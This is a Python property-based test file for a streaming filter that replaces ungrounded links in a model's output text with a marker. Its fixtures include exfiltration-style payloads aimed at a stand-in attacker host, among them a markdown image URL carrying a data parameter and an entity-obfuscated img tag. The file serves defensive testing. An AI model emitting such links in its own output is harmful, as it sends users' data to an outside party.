"""The streamed policing of the model's text (D10.8), against the whole text's.

In any cutting of a text into pieces, what a :class:`TextStream` lets out is what
:func:`police_text` makes of the whole text, and at no moment has it let out a character
of a word not yet decided: the text out so far is the policed text of the words that
ended, so no prefix of an attacker's link leaves before its word is replaced. A word over
the bound is decided as it stands: the oracle (written here) says what it becomes.
"""

from __future__ import annotations

import itertools

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from fak_core.textlinks import TextStream, marker, police_text


def grounded(dest: str) -> bool:
    return "good.example" in dest and "evil" not in dest


WORDS = (
    "hello",
    "![x](https://evil.example/p.png?d=S)",
    "[ok](https://good.example/)",
    "<img src='https&#58;//evil.example/i.png'>",
    "plain",
    "evil.example",
    "é",
)
texts = st.lists(
    st.tuples(st.sampled_from(WORDS), st.sampled_from((" ", "\n", "  ", "\t"))), max_size=8
).map(lambda xs: "".join(w + s for w, s in xs))


def _cut(text: str, cuts: list[int]) -> list[str]:
    bounds = [0, *sorted({c % (len(text) + 1) for c in cuts}), len(text)]
    return [text[a:b] for a, b in itertools.pairwise(bounds) if b > a]


@pytest.mark.fak_theorem("D10.8")
@settings(max_examples=200)
@given(texts, st.lists(st.integers(0, 400), max_size=30), st.booleans())
def test_a_stream_lets_out_the_policed_text_of_the_words_that_ended(
    text: str, cuts: list[int], ragged: bool
) -> None:
    stream = TextStream(grounded)
    out = ""
    seen = ""
    tail = WORDS[1] if ragged else ""  # a link the text ends in, with no white space after
    for piece in _cut(text + tail, cuts):
        out += stream.feed(piece)
        seen += piece
        # exactly the words followed by white space are out, decided
        cut = max(seen.rfind(c) for c in " \n\t") + 1
        assert out == police_text(seen[:cut], grounded)[0], (seen, out)
    out += stream.end()
    whole = text + tail
    assert out == police_text(whole, grounded)[0]
    assert stream.removed == police_text(whole, grounded)[1]
    assert "d=S" not in out and "i.png" not in out


@pytest.mark.fak_theorem("D10.8")
@pytest.mark.parametrize("step", [1, 3, 7, 100])
def test_a_word_over_the_bound_is_decided_as_it_stands(step: int) -> None:
    bound = 16

    def run(text: str) -> tuple[str, list[str]]:
        stream = TextStream(grounded, max_held=bound)
        out = "".join(stream.feed(text[i : i + step]) for i in range(0, len(text), step))
        return out + stream.end(), stream.removed

    # letters only: no link can start in it, it goes out whole
    long_word = "a" * (bound + 5)
    assert run(f"x {long_word} y") == (f"x {long_word} y", [])
    assert run(f"x {long_word}") == (f"x {long_word}", [])
    # a link's start (a scheme's "://", a "/"): replaced by the marker of what the held
    # part reads as, the rest of the word dropped; a word that ends in the piece it grew
    # past the bound in is decided whole instead
    for word in ("https://aaaaaaaaaaaaaaaa.evil.example/p", "zzzzzzzzzzzzzz/aaaaaaaaaaaaa"):
        out, removed = run(f"x {word} y")
        if step > len(word) and "evil" not in word:
            assert (out, removed) == (f"x {word} y", [])
            continue
        assert len(removed) == 1 and out == f"x {marker(removed[0])} y", out
        if step < len(word):  # cut where the held part first passed the bound
            assert word.startswith(removed[0]) and bound < len(removed[0]) <= bound + step
    # a word of exactly the bound is held, and decided whole when it ends
    exact = "https://evil.exa"
    assert len(exact) == bound
    assert run(f"x {exact}mple/p y") == (f"x {marker(exact + 'm')} y", [exact + "m"]) or step > 1
    assert run(f"x {exact} y") == (f"x {marker(exact)} y", [exact])


#: destinations and the marker written for each, by hand
MARKERS = {
    "https://evil.example/p": "evil[.]example",
    "//evil.example/x": "evil[.]example",
    "bob@evil.example": "evil[.]example",
    "mailto:bob@evil.example": "evil[.]example",
    "evil.example/x": "evil[.]example",
    "https://B\u00fccher.de/": "xn--bcher-kva[.]de",
    "https://[::1]/x": "?::1?",
    "https://[a(b)<c>`d&#1;": "https://?a?b??c??d?#1;",
    "https://[\x07": "https://??",
    "https://[" + "a" * 100: "https://?" + "a" * 71,
}


@pytest.mark.fak_theorem("D10.8")
@pytest.mark.parametrize("dest", sorted(MARKERS))
def test_the_marker_names_the_host_and_carries_no_markup(dest: str) -> None:
    assert marker(dest) == f"[link removed by fak: ungrounded destination {MARKERS[dest]}]"
